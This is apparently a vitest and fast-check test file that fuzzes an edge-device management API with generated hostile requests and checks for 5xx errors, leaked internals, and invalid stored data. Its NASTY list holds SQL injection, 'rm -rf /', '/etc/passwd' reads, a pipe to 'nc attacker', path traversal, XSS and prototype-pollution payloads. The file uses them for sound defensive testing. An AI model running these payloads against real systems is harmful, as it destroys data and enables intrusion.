// Hostile input, generated: SQL, shell and path strings, NUL, over-long text, out-of-range numbers, deep
// nesting, __proto__ keys and invalid UTF-8, in every write's fields and path segments. Never a 5xx, never a
// stack, SQL or file path in a body, and nothing stored that breaks a rule of decisions.md.
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEVICE, NOTIFICATION, ORG, USER } from '../../fixtures/basic-ids.js';
import { startTestServer, type TestServer } from '../../helpers/server.js';

let srv: TestServer;
beforeAll(async () => {
  srv = await startTestServer();
});
afterAll(() => srv.close());

const NASTY = [
  "' OR '1'='1",
  "x'); DROP TABLE edge_devices; --",
  '" UNION SELECT hash FROM tokens --',
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd',
  '| nc attacker 80',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '/dev/zero',
  'a\u0000b',
  '\u0000',
  '\uD800',
  '\uDFFFtail',
  '__proto__',
  'constructor',
  '$' + '{7*7}', // a template injection, spelled so it is no template here
  '<script>alert(1)</script>',
  '\r\nX-Injected: 1',
  'x'.repeat(4097),
  'y'.repeat(100_000),
];

/** A value as JSON text: strings, numbers out of range, objects with __proto__, deep nesting. */
const hostileJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...NASTY).map((s) => JSON.stringify(s)),
  fc.string({ maxLength: 40 }).map((s) => JSON.stringify(s)),
  fc.string({ unit: 'binary', maxLength: 40 }).map((s) => JSON.stringify(s)),
  fc.constantFrom(
    '-1',
    '0',
    '65536',
    '70000',
    '-2147483649',
    '9007199254740993',
    '1e308',
    '-1e308',
    '1.5',
    '0.1',
  ),
  fc.integer().map(String),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => JSON.stringify(n)),
  fc.constantFrom('null', 'true', 'false', '[]', '{}', '""'),
  fc.constantFrom(
    '{"__proto__":{"isAdmin":true,"role":"admin"}}',
    '{"constructor":{"prototype":{"polluted":1}}}',
    '[{"__proto__":null}]',
  ),
  fc.integer({ min: 1, max: 50_000 }).map((d) => `${'['.repeat(d)}${']'.repeat(d)}`),
  fc.integer({ min: 1, max: 20_000 }).map((d) => `${'{"a":'.repeat(d)}1${'}'.repeat(d)}`),
);

const FIELDS: Record<string, string[]> = {
  device: [
    'uuid',
    'edgeDeviceName',
    'serialNumber',
    'ipAdress',
    'port',
    'location',
    'shortDescription',
    'longDescription',
    'noOfdevices',
    'isActive',
    'orgUUID',
    'userUUID',
    'edgeFlows',
    'externalReferences',
    '__proto__',
  ],
  flow: ['uuid', 'flowId', 'flowName', 'flowJSON', 'shortDescription', 'isActive', '__proto__'],
  org: [
    'uuid',
    'orgName',
    'orgAdmin',
    'codeUuid',
    'isActive',
    'orgAddress',
    'suborganization',
    'organizationUuid',
    '__proto__',
  ],
  option: ['key', 'value', 'organizationUuid', 'isActive', '__proto__'],
  notification: ['uuid', 'type', 'createdBy', 'isActive', 'notificationOptions', '__proto__'],
  configure: [
    'notificationUuid',
    'roleUuid',
    'organizationUuid',
    'isActive',
    'applyToSubOrganizaitons',
    '__proto__',
  ],
  code: ['uuid', 'clazz', 'value', '__proto__'],
};

interface Op {
  method: 'POST' | 'PUT';
  /** The path, with `{0}`, `{1}` standing for the segments below. */
  path: string;
  segments: string[];
  kind: keyof typeof FIELDS;
  /** A valid record: what the generated fields replace or add to. */
  base: () => Record<string, string>;
}

const uniq = () => Math.random().toString(36).slice(2);
const q = JSON.stringify;
const OPS: Op[] = [
  {
    method: 'POST',
    path: '/edgedevice/org/{0}/user/{1}/add',
    segments: [ORG.root, USER.admin],
    kind: 'device',
    base: () => ({ edgeDeviceName: q('hostile'), serialNumber: q(`H-${uniq()}`) }),
  },
  {
    method: 'POST',
    path: '/edgedevice/push',
    segments: [],
    kind: 'flow',
    base: () => ({ flowId: q(`f-${uniq()}`), flowJSON: q('{}') }),
  },
  { method: 'PUT', path: '/org/update', segments: [], kind: 'org', base: () => ({ uuid: q(ORG.sub2) }) },
  {
    method: 'POST',
    path: '/org/options/org/{0}/add',
    segments: [ORG.root],
    kind: 'option',
    base: () => ({ key: q(`k-${uniq()}`), value: q('v') }),
  },
  {
    method: 'POST',
    path: '/notification',
    segments: [],
    kind: 'notification',
    base: () => ({ type: q('EMAIL') }),
  },
  {
    method: 'PUT',
    path: '/notification',
    segments: [],
    kind: 'notification',
    base: () => ({ uuid: q(NOTIFICATION.email), type: q('EMAIL') }),
  },
  {
    method: 'POST',
    path: '/notification/configure',
    segments: [],
    kind: 'configure',
    base: () => ({ notificationUuid: q(NOTIFICATION.sms), roleUuid: q(USER.viewer) }),
  },
  {
    method: 'PUT',
    path: '/license/{0}/{1}',
    segments: ['c1000000-0000-4000-8000-000000000002', 'activate'],
    kind: 'code',
    base: () => ({}),
  },
  {
    method: 'POST',
    path: '/codes',
    segments: [],
    kind: 'code',
    base: () => ({ uuid: q('c8000000-0000-4000-8000-000000000001') }),
  },
];

/** Builds the JSON text of a record: the base's fields, with generated ones set (as raw JSON text). */
function recordText(base: Record<string, string>, fields: [string, string][]): string {
  const all = new Map(Object.entries(base));
  for (const [k, v] of fields) all.set(k, v);
  return `{${[...all].map(([k, v]) => `${q(k)}:${v}`).join(',')}}`;
}

/** A segment as a client would send it; a lone surrogate, which encodeURIComponent refuses, as its bytes. */
function encodeSegment(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return '%ED%A0%80';
  }
}

// The text fields of each kind: hostile text there is often accepted, so what is stored gets checked too.
const TEXT: Record<keyof typeof FIELDS, string[]> = {
  device: ['edgeDeviceName', 'serialNumber', 'ipAdress', 'location', 'shortDescription', 'longDescription'],
  flow: ['flowName', 'shortDescription'],
  org: ['orgName', 'orgAdmin', 'codeUuid'],
  option: ['value'],
  notification: ['type', 'createdBy'],
  configure: ['createdBy'],
  code: ['clazz'],
};

const hostileText = fc
  .oneof(
    fc.constantFrom(...NASTY),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.string({ minLength: 4090, maxLength: 4100 }),
  )
  .map((t) => JSON.stringify(t));

/** Null five times in six: most requests are kept well-formed enough to reach the fields. */
const sometimes = <T>(arb: fc.Arbitrary<T>) =>
  fc.oneof({ weight: 5, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: arb });

const fieldsFor = (op: Op) =>
  fc.oneof(
    {
      weight: 2,
      arbitrary: fc.array(fc.tuple(fc.constantFrom(...(TEXT[op.kind] ?? [])), hostileText), {
        minLength: 1,
        maxLength: 2,
      }),
    },
    {
      weight: 1,
      arbitrary: fc.array(fc.tuple(fc.constantFrom(...(FIELDS[op.kind] ?? [])), hostileJson), {
        maxLength: 3,
      }),
    },
  );

const request = fc.constantFrom(...OPS).chain((op) =>
  fc.record({
    op: fc.constant(op),
    fields: fieldsFor(op),
    /** Which path segment to replace (none when out of range), and with what. */
    segment: fc.tuple(
      fc.nat({ max: 6 }),
      fc.oneof(
        fc.constantFrom(...NASTY).map(encodeSegment),
        fc.string({ maxLength: 20 }).map(encodeSegment),
        // Raw: escapes that decode to nothing valid, and dot segments.
        fc.constantFrom('%ff', '%', '%E0%A4', '%00', '..', '.', '%2e%2e', '%2F'),
      ),
    ),
    /** Bytes that are not UTF-8, spliced in at a position (a fraction of the body), or none. */
    badUtf8: sometimes(
      fc.tuple(
        fc.constantFrom([0xff], [0xc3, 0x28], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0x80]),
        fc.double({ min: 0, max: 1, noNaN: true }),
      ),
    ),
    wrapMetadata: sometimes(hostileJson),
  }),
);

const LEAKS =
  /SqliteError|SQLITE_|\n\s+at |node_modules|\/work\/|\/tmp\/|\.db\b|\bSELECT\b.*\bFROM\b|\bINSERT INTO\b|\.ts:\d+|\.js:\d+/;

describe('generated hostile requests', () => {
  it('never a 5xx, never a stack, SQL or file path in a body', async () => {
    let sent = 0;
    const statuses = new Map<number, number>();
    await fc.assert(
      fc.asyncProperty(request, async ({ op, fields, segment, badUtf8, wrapMetadata }) => {
        let record = recordText(op.base(), fields);
        if (op.kind === 'flow') record = `{"uuid":${q(DEVICE.gateway2)},"edgeFlows":[${record}]}`;
        const metadata = wrapMetadata === null ? '' : `,"metadata":${wrapMetadata}`;
        let body = Buffer.from(`{"data":[${record}]${metadata}}`, 'utf8');
        if (badUtf8) {
          const at = Math.floor(badUtf8[1] * body.length);
          body = Buffer.concat([body.subarray(0, at), Buffer.from(badUtf8[0]), body.subarray(at)]);
        }
        const segs = [...op.segments];
        if (segment[0] < segs.length) segs[segment[0]] = segment[1];
        const path = op.path.replace(/\{(\d)\}/g, (_, i: string) => segs[Number(i)]!);
        const res = await srv.call(op.method, path, { body, timeZone: 'UTC' });
        sent++;
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        expect(res.status, res.text.slice(0, 300)).toBeLessThan(500);
        expect(typeof res.body, res.text.slice(0, 300)).toBe('object');
        expect(typeof res.body.statusCode).toBe('string');
        // An answer holds what was stored, hostile text included; an error tells nothing of the internals.
        if (res.body.statusCode !== 'OK') expect(res.text).not.toMatch(LEAKS);
      }),
      { numRuns: 250, seed: Number(process.env.CCP_FC_SEED ?? 20261121), endOnFailure: true },
    );
    console.log(`[hostile] ${sent} requests: ${[...statuses].map(([s, n]) => `${n}x${s}`).join(', ')}`);
  }, 120_000);

  it('nothing stored breaks a rule: text <= 4,096 (flowJSON aside), no NUL, port 1..65535, counts >= 0', () => {
    const db = srv.engine.db;
    const tables = db
      .prepare("SELECT name FROM sqlite_master WHERE type = 'table'")
      .pluck()
      .all() as string[];
    for (const table of tables) {
      const columns = db.prepare(`SELECT name, type FROM pragma_table_info(?)`).all(table) as {
        name: string;
        type: string;
      }[];
      for (const { name, type } of columns) {
        if (type !== 'TEXT') continue;
        const bad = db
          .prepare(
            `SELECT count(*) FROM "${table}" WHERE instr("${name}", char(0)) > 0` +
              (name === 'flow_json' || name === 'component_details' ? '' : ` OR length("${name}") > 4096`),
          )
          .pluck()
          .get();
        expect(bad, `${table}.${name}`).toBe(0);
      }
    }
    const outOfRange = db
      .prepare('SELECT count(*) FROM edge_devices WHERE port NOT BETWEEN 1 AND 65535 OR no_of_devices < 0')
      .pluck()
      .get();
    expect(outOfRange).toBe(0);
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});
